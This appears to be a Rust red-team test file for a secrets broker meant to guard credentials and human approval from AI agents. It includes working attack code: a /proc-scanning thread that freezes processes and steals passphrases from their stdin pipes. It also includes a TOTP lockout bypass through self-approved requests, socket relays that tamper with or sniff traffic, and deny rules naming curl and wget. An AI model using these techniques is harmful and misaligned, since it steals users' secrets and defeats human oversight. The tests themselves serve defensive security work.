//! Red-team pass over the rewritten factor path (branch `red`). Each test performs an attack the
//! way a prompt-injected, same-uid agent would (a shell, `/proc`, the socket, the files of
//! `KEYVEIL_HOME`) and asserts the secure outcome: they fail where the attack works.
//!
//! Run as root (as CI here does), `/proc/PID/fd` of a non-dumpable process is still open to the
//! test; the same attacks were reproduced by hand as an unprivileged user (uid 1000, no ptrace
//! involved, so Yama's `ptrace_scope` does not matter): freezing the new process with SIGSTOP
//! before it calls `PR_SET_DUMPABLE` makes the window as long as the agent likes.

use std::io::{Read, Write};
use std::os::unix::fs::OpenOptionsExt;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::custody::{keep, relay};
use crate::harness::*;

/// `O_NONBLOCK` on Linux (x86_64 and aarch64).
const O_NONBLOCK: i32 = 0o4000;

/// What the agent stole from a pipe.
type Loot = Arc<Mutex<Vec<u8>>>;

fn cmdline(pid: u32) -> Option<String> {
    let b = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
    Some(
        b.split(|&c| c == 0)
            .map(|s| String::from_utf8_lossy(s).into_owned())
            .collect::<Vec<_>>()
            .join(" "),
    )
}

fn has_home(pid: u32, home: &Path) -> bool {
    let want = format!("KEYVEIL_HOME={}", home.display());
    std::fs::read(format!("/proc/{pid}/environ"))
        .map(|e| e.split(|&c| c == 0).any(|v| v == want.as_bytes()))
        .unwrap_or(false)
}

/// The agent: watches `/proc` for a keyveil process of `home` whose command line holds
/// `needle`, freezes it (SIGSTOP), opens its standard input through `/proc/PID/fd/0` (a pipe:
/// the open gives the agent its own end of it), reads what the human's side wrote there, writes
/// it back so nothing looks wrong, and lets the process go on (SIGCONT). Stops at `stop`.
fn pipe_thief(home: &Path, needle: &'static str, stop: Arc<AtomicBool>) -> Loot {
    let loot: Loot = Arc::new(Mutex::new(Vec::new()));
    let out = loot.clone();
    let home = home.to_path_buf();
    let me = std::process::id();
    std::thread::spawn(move || {
        let mut done = std::collections::HashSet::new();
        while !stop.load(Ordering::Relaxed) {
            let Ok(dir) = std::fs::read_dir("/proc") else {
                return;
            };
            for e in dir.flatten() {
                let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<u32>().ok()) else {
                    continue;
                };
                if pid == me || done.contains(&pid) {
                    continue;
                }
                let Some(cl) = cmdline(pid) else { continue };
                if !cl.contains("keyveil") || !cl.contains(needle) || !has_home(pid, &home) {
                    continue;
                }
                done.insert(pid);
                let _ = Command::new("kill")
                    .args(["-STOP", &pid.to_string()])
                    .status();
                if let Ok(mut pipe) = std::fs::OpenOptions::new()
                    .read(true)
                    .write(true)
                    .custom_flags(O_NONBLOCK)
                    .open(format!("/proc/{pid}/fd/0"))
                {
                    let mut buf = [0u8; 4096];
                    let t0 = Instant::now();
                    while t0.elapsed() < Duration::from_secs(5) {
                        match pipe.read(&mut buf) {
                            Ok(n) if n > 0 => {
                                out.lock().unwrap().extend_from_slice(&buf[..n]);
                                // Put it back: the process reads it as if nothing happened.
                                let _ = pipe.write_all(&buf[..n]);
                                break;
                            }
                            _ => std::thread::sleep(Duration::from_millis(1)),
                        }
                    }
                }
                let _ = Command::new("kill")
                    .args(["-CONT", &pid.to_string()])
                    .status();
            }
        }
    });
    loot
}

fn assert_no_passphrase(loot: &Loot, what: &str) {
    let got = loot.lock().unwrap().clone();
    assert!(
        !contains(&got, PASS),
        "{what}: the agent read the vault passphrase from a pipe: {:?}",
        String::from_utf8_lossy(&got)
    );
}

/// `keyveil init` and `keyveil unlock` hand the passphrase to a broker they start through its
/// stdin pipe. The broker (and its supervisor) is dumpable from `exec` until it hardens itself;
/// an agent that opens `/proc/PID/fd/0` in that window (frozen with SIGSTOP, it lasts as long
/// as the agent likes; no ptrace, so Yama does not help) reads the passphrase — even when the
/// human typed it on the terminal. The agent forces an unlock at will (`keyveil lock`, or the
/// `shutdown` request, need no factor).
#[test]
fn the_bootstrap_stdin_pipe_of_init_and_unlock_does_not_give_the_passphrase_away() {
    // init
    let h = Home::empty();
    let stop = Arc::new(AtomicBool::new(false));
    let loot = pipe_thief(h.path(), "--bootstrap-stdin", stop.clone());
    std::thread::sleep(Duration::from_millis(100));
    let o = h.run_stdin(
        &["init", "--passphrase-stdin", "--kdf-memory-kib", "19456"],
        &format!("{PASS}\n"),
    );
    assert!(o.status.success(), "init failed: {}", text(&o.stderr));
    stop.store(true, Ordering::Relaxed);
    assert_no_passphrase(&loot, "keyveil init");

    // unlock, after the agent stopped the broker (no factor needed for that)
    h.ok(&["daemon", "stop"]);
    let stop = Arc::new(AtomicBool::new(false));
    let loot = pipe_thief(h.path(), "--bootstrap-stdin", stop.clone());
    std::thread::sleep(Duration::from_millis(100));
    let o = h.run_stdin(&["unlock", "--passphrase-stdin"], &format!("{PASS}\n"));
    stop.store(true, Ordering::Relaxed);
    assert!(o.status.success(), "unlock failed: {}", text(&o.stderr));
    assert_no_passphrase(&loot, "keyveil unlock");
    let _ = h.run(&["daemon", "stop"]);
}

fn pending_in(h: &Home, env: &str, cmd: &[&str]) -> u64 {
    let mut args = vec!["run", "--env", env, "--wait", "0", "--"];
    args.extend_from_slice(cmd);
    let o = h.run(&args);
    assert_eq!(o.status.code(), Some(5), "{}", text(&o.stderr));
    h.wait_request()
}

fn set_policy(h: &Home, env: &str, change: &[&str]) {
    let mut args = vec!["policy", "set", env];
    args.extend_from_slice(change);
    args.insert(4.min(args.len()), "--passphrase-stdin");
    let o = h.run_stdin(&args, &format!("{PASS}\n"));
    assert!(o.status.success(), "{change:?}: {}", text(&o.stderr));
}

/// TOTP guesses are rate-limited (each TOTP challenge counts as a failure; 5 lock TOTP for a
/// minute, doubling). But *any* successful factor check resets the count and lifts a lockout
/// (`FactorState::succeed`), and a plain `--confirm` approval in an environment whose policy is
/// `confirm` is a successful factor check the agent makes itself. So an agent interleaves four
/// guesses with one confirm approval of its own request in the low-risk environment, forever:
/// unlimited online guessing of the TOTP code that guards the `totp` environment (3 candidate
/// steps per challenge, so about 3 in 10^6 per guess; hours, not years).
#[test]
fn confirm_approvals_of_the_agent_do_not_reset_the_totp_rate_limit() {
    let h = Home::new();
    h.set("demo", "API_TOKEN", "tok_redteam_Zk4pQ9vX2mB7");
    let secret = enroll(&h);
    set_policy(&h, "demo", &["factor", "totp"]);
    h.ok(&["env", "create", "low"]);
    h.set("low", "LOW_RISK", "low_risk_value_123456");
    set_policy(&h, "low", &["factor", "confirm"]);
    // The agent's targets: a request in the totp environment, guessed at.
    let target = pending_in(&h, "demo", &["sh", "-c", "echo $API_TOKEN"]);
    let valid: Vec<String> = (-1..=1).map(|o| totp_code(&secret, o)).collect();
    let guess = (0..1_000_000)
        .map(|n| format!("{n:06}"))
        .find(|g| !valid.contains(g))
        .unwrap();
    let wrong = |h: &Home| {
        let o = h.run_stdin(
            &["approve", &target.to_string(), "--totp-stdin"],
            &format!("{guess}\n"),
        );
        assert!(
            !o.status.success(),
            "a wrong code approved: {}",
            text(&o.stderr)
        );
        text(&o.stderr)
    };
    // The rate limit works on its own: five wrong codes, then TOTP is locked.
    for _ in 0..5 {
        let e = wrong(&h);
        assert!(!e.contains("locked after"), "locked too early: {e}");
    }
    let e = wrong(&h);
    assert!(
        e.contains("locked after"),
        "the rate limit did not lock: {e}"
    );
    // The agent approves a request of its own in the `confirm` environment...
    let low = pending_in(&h, "low", &["true", "r1"]);
    let o = h.run(&["approve", &low.to_string(), "--confirm"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    // ... and may guess again at once.
    let e = wrong(&h);
    assert!(
        e.contains("locked after"),
        "a confirm approval by the agent lifted the TOTP lockout; the next guess was judged: {e}"
    );
    let _ = h.run(&["daemon", "stop"]);
}

/// The `requests` card is bound by its digest, but `policy show` is not: `deny-rm N` and
/// `auto-approve-rm N` carry only an index the human read from a listing that came over the
/// socket. A relay reverses the listing; the human removes "wget" as shown, with the right
/// passphrase, and the broker removes "curl" instead.
#[test]
fn a_relay_cannot_make_the_human_remove_another_policy_rule_than_the_one_shown() {
    let h = Home::new();
    set_policy(&h, "demo", &["deny", "--", "curl"]);
    set_policy(&h, "demo", &["deny", "--", "wget"]);
    let relay = relay(&h, keep, |v: &mut Value| {
        if let Some(d) = v["data"]["policy"]["deny"].as_array_mut() {
            d.reverse();
        }
    });
    let shown = h.json(&["policy", "show", "demo", "--json"]);
    let wget = shown["policy"]["deny"]
        .as_array()
        .unwrap()
        .iter()
        .position(|r| r["argv"] == json!(["wget"]))
        .unwrap();
    // The human removes the rule shown as "wget".
    let o = h.run_stdin(
        &[
            "policy",
            "set",
            "demo",
            "deny-rm",
            &wget.to_string(),
            "--passphrase-stdin",
        ],
        &format!("{PASS}\n"),
    );
    relay.restore(&h);
    assert!(
        o.status.success() || text(&o.stderr).contains("not the one"),
        "{}",
        text(&o.stderr)
    );
    let real = h.json(&["policy", "show", "demo", "--json"]);
    let left: Vec<Value> = real["policy"]["deny"].as_array().unwrap().clone();
    assert!(
        left.iter().any(|r| r["argv"] == json!(["curl"])),
        "the human removed what was shown as wget, and the broker removed curl: {left:?}"
    );
    let _ = h.run(&["daemon", "stop"]);
}

/// Rotating a stored value from the terminal (`keyveil set demo API_TOKEN`, no factor flag):
/// `call_guarded` first sends the request *without* a factor, with the new value in plain text
/// (`value`), and only when the broker answers "needs your factor" asks for the passphrase and
/// sends it again sealed. The first, plain copy already went to whatever listens at the socket.
/// (`keyveil dynamic add` is worse: its `admin` credential is plain text in both attempts.)
#[test]
fn replacing_a_stored_value_never_sends_the_new_value_in_plain_text() {
    const NEW: &str = "tok_rotated_Xw8yL2nQ5rT1vB6";
    let h = Home::new();
    h.set("demo", "API_TOKEN", "tok_redteam_Zk4pQ9vX2mB7");
    let relay = relay(&h, keep, keep);
    // The human rotates the token; the value is piped in (in a terminal it is typed at the
    // prompt: the same request is sent).
    let o = h.run_stdin(
        &["set", "demo", "API_TOKEN", "--from-stdin"],
        &format!("{NEW}\n"),
    );
    let seen = relay.seen();
    relay.restore(&h);
    // No terminal here, so the CLI cannot ask for the passphrase and stops: it did already send.
    assert!(!o.status.success(), "{}", text(&o.stderr));
    for form in encodings(NEW) {
        assert!(
            !contains(&seen, &form),
            "the relay read the new value of a stored variable in plain text: {}",
            text(&seen)
        );
    }
    let _ = h.run(&["daemon", "stop"]);
}

/// Hidden names are kept from the agent; `env show --reveal-names` gives them to the human for
/// the factor. The request is signed, but the reply (every real name next to its alias) comes
/// back over the socket in plain JSON: a faithful relay reads them all.
#[test]
fn revealing_hidden_names_to_the_human_does_not_reveal_them_to_a_relay() {
    const NAME: &str = "STRIPE_LIVE_SECRET_QX";
    let h = Home::new();
    h.set("demo", NAME, "sk_redteam_Vn3cJ8wP1tR5yU0");
    set_policy(&h, "demo", &["hide-names", "on"]);
    let shown = h.ok(&["env", "show", "demo", "--json"]);
    assert!(!shown.contains(NAME), "names are not hidden: {shown}");
    let relay = relay(&h, keep, keep);
    let o = h.run_stdin(
        &[
            "env",
            "show",
            "demo",
            "--reveal-names",
            "--passphrase-stdin",
        ],
        &format!("{PASS}\n"),
    );
    let seen = relay.seen();
    relay.restore(&h);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert!(
        text(&o.stdout).contains(NAME),
        "the human did not see the name"
    );
    assert!(
        !contains(&seen, NAME),
        "the relay read the hidden names the human revealed: {}",
        text(&seen)
    );
    let _ = h.run(&["daemon", "stop"]);
}
